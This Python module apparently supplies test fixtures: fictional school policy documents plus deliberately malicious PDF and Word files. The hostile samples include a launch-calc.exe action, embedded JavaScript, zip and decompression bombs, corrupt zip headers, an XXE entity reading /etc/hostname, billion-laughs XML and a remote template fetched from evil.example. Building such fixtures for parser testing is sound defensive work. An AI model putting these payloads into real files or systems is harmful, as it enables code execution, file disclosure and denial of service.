"""Policies of a fictional school, and files made to do harm. Nothing here is a real policy."""

from __future__ import annotations

import io
import zipfile
import zlib
from functools import lru_cache

from docx import Document
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject
from weasyprint import HTML

PAGE = """<html><head><style>@page {{ size: A4; @bottom-center {{ content: "Larkfield Academy, page " counter(page) }} }}
body {{ font: 11pt serif }} {css}</style></head><body><h1>Safeguarding policy</h1>
<p>This policy says how we keep every pupil safe, what each of us does when we are worried, and who decides.</p>
<h2>1 Roles</h2><p>The designated safeguarding lead is told at once.</p><ul><li>A deputy stands in.</li><li>The head is told after.</li></ul>
<h2>2 Online safety</h2><h3>2.1 Monitoring</h3><p>School devices are monitored, and their users know it.</p>
<p style="page-break-before: always">Nobody copies, prints or forwards an indecent image of a child.</p>
<h2>3 Review</h2><p>Governors review this policy each year.</p></body></html>"""
NO_OUTLINE = "h1, h2, h3 { bookmark-level: none }"
NOTHING_STANDS_OUT = "h1, h2, h3, p, li { bookmark-level: none; font: 11pt serif }"
MARKDOWN = b"# Behaviour policy\n\nBe kind.\n\n## Sanctions\n\nA person decides, never a machine.\n\n- First a talk.\n- Then a letter.\n"
SECRET = "a password for nobody"


@lru_cache
def pdf(css: str = "") -> bytes:
    made: bytes = HTML(string=PAGE.format(css=css)).write_pdf()
    return made


@lru_cache
def scan(pages: int = 2) -> bytes:
    """Pages without any text."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return written(writer)


@lru_cache
def docx(*, headings: bool = True) -> bytes:
    document = Document()
    document.add_heading("Child protection policy", 0) if headings else document.add_paragraph("Child protection policy")
    for title, text in (("1 What abuse is", "There are four kinds of abuse."), ("2 What we do", "We write it down and tell the lead."), ("3 Records", "Kept apart.")):
        document.add_heading(title, 1) if headings else document.add_paragraph(title)
        document.add_paragraph(text)
    document.add_paragraph("A record", style="List Bullet")
    table = document.add_table(1, 2)
    table.rows[0].cells[0].text, table.rows[0].cells[1].text = "Lead", "Amara Lockhart"
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def repacked(content: bytes, *, add: dict[str, bytes] | None = None, change: dict[str, tuple[bytes, bytes]] | None = None) -> bytes:
    """A Word document with parts added, and words of its parts changed."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            part = old.read(entry)
            before, after = (change or {}).get(entry.filename, (b"", b""))
            new.writestr(entry.filename, part.replace(before, after) if before else part)
        for name, part in (add or {}).items():
            new.writestr(name, part)
    return made.getvalue()


def written(writer: PdfWriter) -> bytes:
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def writer_of(content: bytes) -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(content)))


def encrypted_pdf() -> bytes:
    writer = writer_of(scan())
    writer.encrypt(SECRET, algorithm="AES-256")
    return written(writer)


def pdf_with_script() -> bytes:
    writer = writer_of(scan())
    script = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('hello')")}
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject(script)})
    return written(writer)


def pdf_with_attachment() -> bytes:
    writer = writer_of(scan())
    writer.add_attachment("other.exe", b"MZ")
    return written(writer)


def pdf_that_launches() -> bytes:
    writer = writer_of(scan())
    launch = {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(launch)
    return written(writer)


def pdf_that_unpacks() -> bytes:
    """Half a megabyte whose one page unpacks to 260."""
    writer, stream = PdfWriter(), StreamObject()
    page = writer.add_blank_page(width=595, height=842)
    stream._data = zlib.compress(b"BT (a) Tj ET " * 20_000_000, 9)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    return written(writer)


def pdf_whose_pages_go_round() -> bytes:
    writer = writer_of(scan(1))
    pages = writer.root_object["/Pages"]
    pages["/Kids"].append(writer.root_object.raw_get("/Pages"))  # type: ignore[index]
    return written(writer)


def pdf_whose_outline_goes_round() -> bytes:
    writer = writer_of(scan(1))
    writer.add_outline_item(title="A", page_number=0)
    first = writer.root_object["/Outlines"].raw_get("/First")  # type: ignore[attr-defined]
    first.get_object()[NameObject("/Next")] = first
    return written(writer)


def pdf_without_bottom() -> bytes:
    """Arrays in arrays in arrays."""
    deep = 200_000
    return b"%PDF-1.4\n1 0 obj\n" + b"[" * deep + b"]" * deep + b"\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF"


def zip_of(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return made.getvalue()


def bomb_docx() -> bytes:
    """A few hundred kilobytes that unpack to more than any policy has."""
    return repacked(docx(), add={f"word/media/image{number}.png": bytes(64 * 1024 * 1024) for number in range(2)})


def lying_docx() -> bytes:
    """One part says that it is small, and is not."""
    content = bytearray(repacked(docx(), add={"word/media/image1.png": bytes(100_000)}))
    for size in (100_000 .to_bytes(4, "little"),):
        while (at := content.find(size)) >= 0:
            content[at : at + 4] = 10 .to_bytes(4, "little")
    return bytes(content)


def overlapping_docx() -> bytes:
    """Two parts in the list that are the same bytes of the file."""
    content = bytearray(repacked(docx(), add={"word/media/image1.png": b"x" * 400, "word/media/image2.png": b"y" * 400}))
    central = [at for at in range(len(content)) if content[at : at + 4] == b"PK\x01\x02"]
    content[central[-1] + 42 : central[-1] + 46] = content[central[-2] + 42 : central[-2] + 46]
    return bytes(content)


ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


def docx_with_entity(start: bytes = ENTITY, encoding: str = "utf-8") -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx())) as old:
        part = old.read("word/document.xml")
    body = part[part.index(b"?>") + 2 :]
    text = (start + body).decode()
    return repacked(docx(), change={"word/document.xml": (part, text.encode(encoding))})


def docx_with_outside_template() -> bytes:
    relation = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    return repacked(docx(), add={"word/_rels/settings.xml.rels": relation})
